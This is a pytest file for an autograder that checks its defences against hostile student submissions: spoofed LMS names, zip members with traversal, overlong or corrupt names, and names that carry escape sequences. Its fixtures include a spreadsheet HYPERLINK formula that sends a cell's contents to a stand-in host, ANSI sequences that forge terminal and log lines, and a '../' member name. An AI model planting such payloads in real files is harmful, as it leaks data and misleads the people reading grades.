"""A file name, zip member or folder decides nothing (issue 25, findings 1-4).

* **Identity** comes only from what the LMS wrote: nbgrader's student folder, Moodle's
  outermost ``_assignsubmission_`` folder, the Canvas/Blackboard prefix of a file name;
  a name a student chose inside an upload moves no row to another student, and several
  submissions that resolve to one student are all kept and flagged (console, report,
  CSVs).
* **No live formula** in any CSV the kit writes.
* **No control character printed raw**: console, ``error:``/``note:`` lines, grader.log,
  report.md/html, feedback titles.
* **One bad zip member** costs its own row at most: a name too long for the disk is
  extracted shortened and still named from its LMS prefix; one that cannot be extracted
  gets a row of 0 with the reason; the rest of the class is graded (exit 1, the member
  named).

The fast tests build layouts and call the finding and writing functions; the slow ones
build a whole class (a Moodle folder with the attack, a Canvas zip with hostile members,
nbgrader's ``submitted/`` with a hostile student folder) and run ``python -m autograder
grade`` on it as root and as an ordinary user created for the run; Gradescope's
``run_autograder`` is in tests/test_gradescope.py.
"""

from __future__ import annotations

import csv
import json
import logging
import os
import pwd
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from corpus_tools import RELEASED, SOLVED, run_grade
from course_paths import ASSIGNMENT

from autograder.checks import points_by_grade_id
from autograder.feedback import write_feedback, write_report
from autograder.judge import failed_everything
from autograder.results import (
    csv_cell,
    duplicate_flags,
    summary_table,
    write_csv,
    write_grades_csv,
    write_results,
)
from autograder.submissions import (
    NAME_MAX,
    extract_notebooks,
    find_submissions,
    lms_student,
    printable,
    safe_folder,
    shown,
)

FULL = sum(points_by_grade_id().values())
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

#: The names of the issue: a live formula, and a name that rewrites the terminal's table.
FORMULA = '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"x.invalid?",D2),"feedback")'
CONTROL = "zed\x1b[1A\x1b[2K\x1b[1Gcarol   full marks\x1b[1B"
#: An nbgrader student folder: a formula, an OSC title sequence and a right-to-left override.
HOSTILE_FOLDER = "@SUM(1+1)\x1b]0;owned\x07\u202eevad"
#: 90 Korean letters after Canvas's prefix: 270 bytes, past a disk's 255.
KOREAN = "가나다라마바사아자차" * 9
LONG_MEMBER = f"kim_minjun_12345_67890_{KOREAN}.ipynb"
#: A member whose bytes do not match its CRC: it cannot be extracted.
CORRUPT_MEMBER = "lee_jin_23456_78901_hw.ipynb"

#: A file a note names, and a zip member an error: line names: each rewrites the line.
SKIPPED = "\x1b[2K\x1b[1Gnotes.txt"
REFUSED = "../\x1b[2K\x1b[1Gall fine.ipynb"

#: What no file the kit writes and nothing it prints may hold: C0 controls but the line
#: ends and the tab, DEL, C1 controls, the bidirectional overrides and isolates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: A cell a spreadsheet runs; a number (``-1``) is not one.
LIVE = re.compile(r"^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20](?![\d.]+$)")


# --------------------------------------------------------------------------- identity


@pytest.mark.parametrize(
    "path, student",
    [
        # Finding 1: a Canvas name, and another student's Moodle folder, inside Mallory's.
        ("Mallory X_5678_assignsubmission_file_/Alice Example_1234_x.ipynb", "Mallory X"),
        (
            "Mallory X_5678_assignsubmission_file_/Alice Example_1234_assignsubmission_file_/"
            "x.ipynb",
            "Mallory X",
        ),
        # nbgrader's folder, outermost: a submitted/ inside a student's upload is hers.
        (f"c/submitted/alice/{ASSIGNMENT}/submitted/bob/{ASSIGNMENT}/x.ipynb", "alice"),
        (f"c/submitted/alice/{ASSIGNMENT}/Bob_1_assignsubmission_file_/x.ipynb", "alice"),
        # The file's own name follows the LMS prefix: the prefix that ends first is the LMS's.
        ("HW3_jlee_attempt_2026-11-02-10-04-05_smith_john_12345_67890_x.ipynb", "jlee"),
        ("smith_john_12345_67890_HW3_alice_attempt_2026-11-02-10-04-05_x.ipynb", "smith_john"),
        ("smith_john_12345_67890_mallory_9999_8888_x.ipynb", "smith_john"),
        (f"smith_john_12345_67890_{NOTEBOOK}", "smith_john"),
        ("Kim Min-jun_555_assignsubmission_file_/x.ipynb", "Kim Min-jun"),
        ("x.ipynb", None),
    ],
)
def test_a_name_inside_an_upload_moves_no_row(path, student):
    assert lms_student(Path("/data") / path) == student


def test_a_moodle_upload_named_like_a_classmate_stays_its_authors_and_is_flagged(tmp_path):
    """Mallory uploads a file named like Alice's Canvas name and a folder named like Alice's
    Moodle folder: both are Mallory's rows, flagged as one student's two submissions."""
    alice = tmp_path / "Alice Example_1234_assignsubmission_file_"
    mallory = tmp_path / "Mallory X_5678_assignsubmission_file_"
    (mallory / alice.name).mkdir(parents=True)
    alice.mkdir()
    (alice / NOTEBOOK).write_text("{}")
    (mallory / "Alice Example_1234_x.ipynb").write_text("{}")
    (mallory / alice.name / NOTEBOOK).write_text("{}")
    with find_submissions([tmp_path]) as found:
        students = sorted(s.student for s in found.submissions)
        folders = [s.folder for s in found.submissions]
    assert students == ["Alice Example", "Mallory X", "Mallory X"]
    flags = duplicate_flags([s.student for s in found.submissions], folders)
    by_student = {}
    for sub, flag in zip(found.submissions, flags):
        by_student.setdefault(sub.student, []).append(flag)
    assert by_student["Alice Example"] == [""]
    assert all("duplicate student: 2 submissions" in f for f in by_student["Mallory X"])
    assert len(set(folders)) == 3  # both kept, in folders of their own


def test_duplicates_are_matched_as_a_gradebook_would():
    flags = duplicate_flags(["Bob", "bob", "Ｂob", "carol"], ["Bob", "bob-2", "Ｂob-3", "carol"])
    assert [bool(f) for f in flags] == [True, True, True, False]
    assert "this one: folder bob-2; also: Bob, Ｂob-3" in flags[1]


# --------------------------------------------------------------------------- text and CSV


def test_controls_are_shown_escaped_never_run():
    assert printable(CONTROL) == "zed\\x1b[1A\\x1b[2K\\x1b[1Gcarol   full marks\\x1b[1B"
    assert printable(HOSTILE_FOLDER) == "@SUM(1+1)\\x1b]0;owned\\x07\\u202eevad"
    assert (
        printable("a\nb\r\x00\x7f\x85\u2028\u2067") == "a\\x0ab\\x0d\\x00\\x7f\\x85\\u2028\\u2067"
    )
    assert printable("bad\udcff") == "bad\ufffd"  # a Latin-1 name on Linux
    assert printable("김민준 O'Brien-Ünal") == "김민준 O'Brien-Ünal"  # letters stay letters
    assert shown("line\n\tnext\x1b", keep="\n\t") == "line\n\tnext\\x1b"


def test_every_csv_cell_is_text_a_spreadsheet_does_not_run(tmp_path):
    cells = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1", CONTROL, "alice"]
    write_csv(tmp_path / "x.csv", [cells, [-1.5, "-1.5", "1e3", 0.0]])
    with open(tmp_path / "x.csv", newline="") as fh:
        text, numbers = list(csv.reader(fh))
    assert not [c for c in text if LIVE.match(c)], text
    assert text[0] == "'" + FORMULA and text[-1] == "alice"
    assert text[7] == printable(CONTROL)
    assert numbers == ["-1.5", "-1.5", "1e3", "0.0"]  # numbers stay numbers
    assert csv_cell("-") == "'-"


def test_grades_csv_export_and_report_of_hostile_names(tmp_path):
    """Reports as the batch writes them, for students named by hostile folders: both CSVs
    neutralise the formula, nothing raw reaches a file, the duplicate is flagged in the
    CSVs and the report, and a control-named notebook's feedback title is escaped."""
    names = [FORMULA, CONTROL, "Mallory X", "mallory x", HOSTILE_FOLDER]
    folders = [safe_folder(printable(n)) for n in names]
    folders[3] += "-2"
    reports = []
    for name, folder in zip(names, folders):
        report = failed_everything(f"{name}.ipynb", "not graded: a test of names")
        report.student = printable(name)
        report.submission = printable(report.submission)
        write_results(tmp_path, report, folder)
        write_feedback(tmp_path / folder, report)
        reports.append(report)
    write_grades_csv(tmp_path, reports, folders)
    write_report(tmp_path)
    _no_live_formula(tmp_path)
    _nothing_raw(tmp_path)
    grades = _csv(tmp_path / "grades.csv")
    assert [r["student"] for r in grades][:2] == ["'" + FORMULA, printable(CONTROL)]
    assert [bool(r["flag"]) for r in grades] == [False, False, True, True, False]
    export = {r["student_id"]: r["flag"] for r in _csv(tmp_path / "nbgrader_export.csv")}
    assert "'" + FORMULA in export and export["Mallory X"] and export["mallory x"]
    md = (tmp_path / "report.md").read_text()
    assert "## Students with more than one submission" in md and "mallory_x-2 (0)" in md
    html = (tmp_path / "report.html").read_text()
    assert 'id="duplicates"' in html and "\\u202eevad" in html
    title = (tmp_path / folders[1] / "feedback.md").read_text().splitlines()[0]
    assert printable(CONTROL) in title
    table = summary_table(reports)
    assert not RAW_CONTROL.search(table) and printable(CONTROL) in table


def test_grader_log_shows_controls_escaped(tmp_path):
    from autograder.cli import _Shown

    handler = logging.FileHandler(tmp_path / "grader.log", encoding="utf-8")
    handler.setFormatter(_Shown("%(levelname)s %(message)s"))
    log = logging.getLogger("autograder.test_names")
    log.addHandler(handler)
    try:
        log.warning("graded %s", f"{CONTROL}\nINFO graded forged.ipynb: 31 of 31")
        try:
            raise ValueError(CONTROL)
        except ValueError:
            log.exception("internal grader error on %s", HOSTILE_FOLDER)
    finally:
        log.removeHandler(handler)
        handler.close()
    text = (tmp_path / "grader.log").read_text()
    assert not RAW_CONTROL.search(text), text
    assert "\nINFO graded forged" not in text  # a name forges no line
    assert printable(CONTROL) in text and "Traceback" in text


# --------------------------------------------------------------------------- zips


def _corrupt(archive: Path, member: str) -> None:
    """Flip a byte of ``member``'s stored data: its CRC no longer matches."""
    with zipfile.ZipFile(archive) as zf:
        info = zf.getinfo(member)
    data = bytearray(archive.read_bytes())
    header = 30 + len(info.filename.encode()) + len(info.extra)
    data[info.header_offset + header + 10] ^= 0xFF
    archive.write_bytes(bytes(data))


def test_one_bad_member_costs_only_its_own_row(tmp_path):
    archive = tmp_path / "canvas.zip"
    deep = "/".join(["d" * 250] * 17) + "/deep.ipynb"  # past the 4096 bytes of a path
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(LONG_MEMBER, "{}")
        zf.writestr(f"{KOREAN}x{KOREAN}.ipynb", "{}")  # long, and no LMS prefix
        zf.writestr("smith_john_12345_67890_hw.ipynb", "{}")
        zf.writestr("clash.ipynb", "{}")
        zf.writestr("clash.ipynb/inner.ipynb", "{}")  # a file where a folder must be
        zf.writestr(deep, "{}")
        zf.writestr(CORRUPT_MEMBER, "{" + " " * 200 + "}")
    _corrupt(archive, CORRUPT_MEMBER)
    with find_submissions([archive]) as found:
        rows = {s.student: s for s in found.submissions}
        long = rows["kim_minjun"]
        assert long.path.is_file() and len(long.path.name.encode()) <= NAME_MAX
        assert long.path.name.startswith("kim_minjun_12345_67890_")
        assert long.origin == f"{archive}:{LONG_MEMBER}"  # named as the zip names it
        assert rows["smith_john"].path.is_file() and rows["clash"].path.is_file()
        for student, member in (("lee_jin", CORRUPT_MEMBER), ("inner", "clash.ipynb/inner")):
            assert rows[student].path is None, student
            assert "could not be extracted" in rows[student].problem
            assert member in rows[student].origin
        assert rows["deep"].path is None
        assert len(found.submissions) == 7
        missing = "\n".join(found.missing)
        assert "kim_minjun_12345_67890_" in missing and "extracted as" in missing
        assert CORRUPT_MEMBER in missing and "inner.ipynb" in missing
        assert all(len(safe_folder(s.student).encode()) <= 200 for s in found.submissions)
    # the function the earlier tests call still says what it refused
    target = tmp_path / "x"
    target.mkdir()
    assert len(extract_notebooks(archive, target)) == 5


# --------------------------------------------------------------------------- a whole class


def _build_class(base: Path) -> list[Path]:
    """A Moodle folder with finding 1's attack, a Canvas zip with findings 2-4's members,
    and nbgrader's submitted/ with a hostile student folder: the arguments to ``grade``."""
    moodle = base / "moodle"
    alice = moodle / "Alice Example_1234_assignsubmission_file_"
    mallory = moodle / "Mallory X_5678_assignsubmission_file_"
    (mallory / alice.name).mkdir(parents=True)
    alice.mkdir()
    shutil.copy(SOLVED, alice / NOTEBOOK)
    shutil.copy(RELEASED, mallory / "Alice Example_1234_x.ipynb")
    shutil.copy(RELEASED, mallory / alice.name / NOTEBOOK)
    (mallory / SKIPPED).write_text("not a notebook: a note names it")
    archive = base / "canvas.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(REFUSED, "{}")  # an error: line names it
        zf.write(SOLVED, LONG_MEMBER)
        zf.write(RELEASED, f"{FORMULA}.ipynb")
        zf.write(RELEASED, f"{CONTROL}.ipynb")
        zf.write(RELEASED, CORRUPT_MEMBER)
    _corrupt(archive, CORRUPT_MEMBER)
    student = base / "course" / "submitted" / HOSTILE_FOLDER / ASSIGNMENT
    student.mkdir(parents=True)
    shutil.copy(RELEASED, student / NOTEBOOK)
    return [moodle, archive, base / "course"]


def _csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _no_live_formula(out: Path) -> None:
    for path in out.rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            live = [c for row in csv.reader(fh) for c in row if LIVE.match(c)]
        assert not live, f"{path}: {live}"


def _nothing_raw(out: Path, *printed: str) -> None:
    written = [p for p in out.rglob("*") if p.is_file() and p.suffix in (".csv", ".md", ".html")]
    written += [p for p in out.rglob("grader.log")]
    for path in written:
        text = path.read_text(encoding="utf-8")
        assert not RAW_CONTROL.search(text), f"{path}: {RAW_CONTROL.search(text)}"
    for text in printed:
        assert not RAW_CONTROL.search(text), RAW_CONTROL.search(text)


def _check_class(out: Path, done: subprocess.CompletedProcess) -> None:
    """What the class's grading must show, as root and as an ordinary user alike."""
    assert done.returncode == 1, done.stderr[-3000:]  # two members named, the rest graded
    assert "Traceback" not in done.stdout + done.stderr, done.stderr[-3000:]
    _nothing_raw(out, done.stdout, done.stderr)
    _no_live_formula(out)
    rows = _csv(out / "grades.csv")
    students = [r["student"] for r in rows]
    expected = {
        "Alice Example": FULL,
        "Mallory X": 0,
        "kim_minjun": FULL,
        "'" + FORMULA: 0,
        printable(CONTROL): 0,
        "lee_jin": 0,
        "'" + printable(HOSTILE_FOLDER): 0,
    }
    assert sorted(students) == sorted([*expected, "Mallory X"]), students
    for row in rows:
        assert float(row["score"]) == expected[row["student"]], row["student"]
        assert bool(row["flag"]) == (row["student"] == "Mallory X"), row
    # finding 1: Alice has one row, hers; Mallory's two are kept and flagged everywhere
    assert "warning: 2 submissions resolve to student Mallory X" in done.stderr
    export = _csv(out / "nbgrader_export.csv")
    assert sorted(r["student_id"] for r in export) == sorted(students)
    assert [bool(r["flag"]) for r in export if r["student_id"] == "Mallory X"] == [True, True]
    assert "Mallory X" in (out / "report.md").read_text().split("more than one submission")[1]
    assert 'id="duplicates"' in (out / "report.html").read_text()
    # finding 3: the table shows the name escaped, and the row above it is intact
    assert printable(CONTROL) in done.stdout and "Alice Example" in done.stdout
    feedback = (out / safe_folder(printable(CONTROL)) / "feedback.md").read_text()
    assert printable(CONTROL) in feedback.splitlines()[0]
    # finding 4: the long member named, graded under its LMS name; the corrupt one has a row
    assert "kim_minjun_12345_67890_" in done.stderr and CORRUPT_MEMBER in done.stderr
    # the error: and note: lines name the refused member and the skipped file escaped
    assert f"canvas.zip: {printable(REFUSED)}: refused (a path with ..)" in done.stderr
    assert f"({printable(SKIPPED)})" in done.stderr
    assert (out / "kim_minjun" / "results.json").is_file()
    lee = json.loads((out / "lee_jin" / "results.json").read_text())
    assert "could not be extracted" in lee["output"]


@pytest.mark.slow
def test_a_hostile_class_graded_as_root(tmp_path):
    arguments = _build_class(tmp_path)
    done = run_grade(*arguments, "--out", tmp_path / "out", "--quiet", "--jobs", "2", timeout=600)
    _check_class(tmp_path / "out", done)


@pytest.fixture
def ordinary_user():
    """A user of this test run only (the name carries the pid), removed afterwards."""
    if os.geteuid() != 0:
        pytest.skip("creates an ordinary user: run as root (CI does)")
    if not shutil.which("useradd") or not shutil.which("runuser"):
        pytest.skip("needs useradd and runuser")
    from autograder.sandbox import let_students_reach_python

    name = f"agtest_names_{os.getpid()}"
    subprocess.run(
        ["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True
    )
    let_students_reach_python()
    try:
        yield pwd.getpwnam(name)
    finally:
        subprocess.run(["userdel", name], check=False, capture_output=True)


@pytest.mark.slow
def test_a_hostile_class_graded_as_an_ordinary_user(ordinary_user):
    from test_ordinary_user import _chown_tree, _folder_of, _processes_of, _run_as

    folder = _folder_of(ordinary_user)
    try:
        arguments = [p.relative_to(folder) for p in _build_class(folder)]
        _chown_tree(folder, ordinary_user)
        argv = ["-m", "autograder", "grade", *map(str, arguments)]
        done = _run_as(
            ordinary_user, folder, [*argv, "--out", "out", "--quiet", "--jobs", "2"], 900
        )
        _check_class(folder / "out", done)
        assert not _processes_of(ordinary_user.pw_uid), "a student process outlived grading"
    finally:
        shutil.rmtree(folder, ignore_errors=True)
